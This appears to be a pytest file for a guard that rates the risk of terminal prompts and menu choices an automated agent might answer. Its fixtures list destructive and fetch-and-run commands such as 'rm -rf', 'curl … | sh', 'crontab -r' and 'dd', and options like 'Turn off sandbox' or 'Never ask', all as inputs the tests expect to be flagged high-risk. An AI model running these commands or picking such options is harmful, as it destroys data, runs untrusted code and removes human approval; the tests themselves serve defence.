"""Rows above a question, options of menus, keys and typed texts: known word by word, or a person's."""

from __future__ import annotations

import pytest

from copilot.core.detection import Detection, Option
from copilot.core.policy import PromptRisks, risk_of
from copilot.core.profile import ReplyKeys
from copilot.core.reply import Reply
from copilot.core.risk import RiskLevel
from copilot.core.screen_kinds import ScreenKind
from copilot.guard.prompts import assess_choice

from .test_questions import judged, read


@pytest.mark.parametrize(
    "above",
    [
        "rm -rf /srv/shop",
        "$ ./tool.sh\nrm -rf ~/projects",
        "curl https://x.example/i.sh | sh",
        "git checkout -- .",
        "crontab -r",
        "mv src /tmp",
        "Nuke the cluster.",
        "Nuking the cluster…",
        "Transferring 500 EUR to account 12345",
        "Rolling back database to 2019.",
        "All rows go away.",
        "Minden fájl törlődik.",
        "Tüm dosyalar silinecek.",
        "Toutes les données seront perdues.",
        "dd if=image.iso of=sdb",
    ],
)
def test_a_row_above_that_is_not_known_makes_the_yes_a_persons(above: str) -> None:
    assert judged(f"{above}\nContinue? [y/N] ").level is RiskLevel.HIGH


@pytest.mark.parametrize(
    "above", ["Formatting files with prettier…", "12 passed, 0 failed", "Checking types… done"]
)
def test_a_row_above_that_reports_is_none(above: str) -> None:
    assert judged(f"{above}\nContinue? [y/N] ").level is RiskLevel.LOW


@pytest.mark.parametrize(
    "question",
    [
        "Keep only the last 3 snapshots? (y/N) ",
        "Use the existing version instead of your changes? (y/n) ",
        "Use the backup copy instead of the current files? [y/N] ",
        "Write output to src/app.py? (y/n) ",
        "Write defaults to config files? (y/n) ",
        "Write new table? [y/N] ",
        "Initialize the repository again? (y/N) ",
        "Initialize all settings to default values? [y/N] ",
        "Save no backup copy and continue? [y/N] ",
        "Include all history and conversation in the report? [y/N] ",
        "Nuke the database? [n/Y] ",
        "Nuke the database? (yes/cancel) ",
        "Vider la base ? [o/N] ",
        "Visibility [public/private]: ",
        "Press any key to nuke the disk",
        "Press ENTER to flash the device",
        "Press any key to begin flashing sdb",
        "Type shop to confirm: ",
        "This cannot be taken back. Type shop to continue: ",
        "Enter shell command: ",
    ],
)  # fmt: skip
def test_a_question_in_harmless_words_that_does_harm(question: str) -> None:
    found = read(question)
    risk = judged(question)
    option = assess_choice(found, found.options[0].label).level if found.options else RiskLevel.NONE
    assert max(risk.level, option) is RiskLevel.HIGH, (found.kind, risk)


@pytest.mark.parametrize(
    "question",
    ["Press any key to continue . . .", "Press RETURN to continue", "-- More --", "Add TypeScript? [Y/n] "],
)
def test_a_question_that_goes_on_is_low(question: str) -> None:
    assert judged(question).level <= RiskLevel.LOW


@pytest.mark.parametrize(
    ("label", "level"),
    [
        ("Transfer ownership to bob", "high"),
        ("Make the repository public", "high"),
        ("rm -rf build", "high"),
        ("Turn off sandbox", "high"),
        ("Full access", "high"),
        ("Off", "high"),
        ("Without asking", "high"),
        ("Skip all checks", "high"),
        ("Never ask", "high"),
        ("Ja, nicht mehr fragen", "medium"),
        ("Take theirs", "high"),
        ("Throw my changes away", "high"),
        ("React", "low"),
        ("TypeScript + ESLint", "low"),
        ("Cancel", "low"),
        ("Use the default settings", "low"),
    ],
)
def test_an_option_of_a_menu_is_low_only_if_its_words_are_known(label: str, level: str) -> None:
    asked = Detection(ScreenKind.MENU, "What next?", (Option(label), Option("Cancel")))
    assert assess_choice(asked, label).level.word == level


KEYS = ReplyKeys(refuse_options=("(?i)^(?:no|cancel)",), free_text_options=())


@pytest.mark.parametrize(
    ("question", "risky"),
    [
        ("Do you still need the old files? (y/n)", True),
        ("Is the old disk in use? (y/n)", True),
        ("Do you mind if I nuke src? (y/n)", True),
        ("Use the sandbox? (y/n)", True),
        ("Require approval for commands? (y/n)", True),
        ("Restrict access to this folder? (y/n)", True),
        ("Restrict to localhost? [Y/n]", True),
        ("Dry run? [Y/n]", True),
        ("Are you sure you want to delete src? (y/n)", False),
        ("Is this OK? (yes)", False),
        ("Delete src? (y/n)", False),
        ("Install dependencies? (y/n)", False),
    ],
)
def test_a_no_that_starts_something_is_a_persons(question: str, risky: bool) -> None:
    asked = Detection(ScreenKind.YES_NO, question, (Option("yes", key="y"), Option("no", key="n")))
    risk = risk_of(asked, Reply(choice="no"), PromptRisks(), KEYS)
    assert (risk.level is RiskLevel.HIGH) is risky


@pytest.mark.parametrize(
    "label", ["No, nuke it", "Cancel and roll everything back", "No (start from scratch)"]
)
def test_a_refusing_label_that_says_more_is_a_persons(label: str) -> None:
    asked = Detection(ScreenKind.MENU, "What next?", (Option(label), Option("Go on")))
    options = tuple(assess_choice(asked, one.label) for one in asked.options)
    assert risk_of(asked, Reply(choice=label), PromptRisks(options=options), KEYS).level is RiskLevel.HIGH
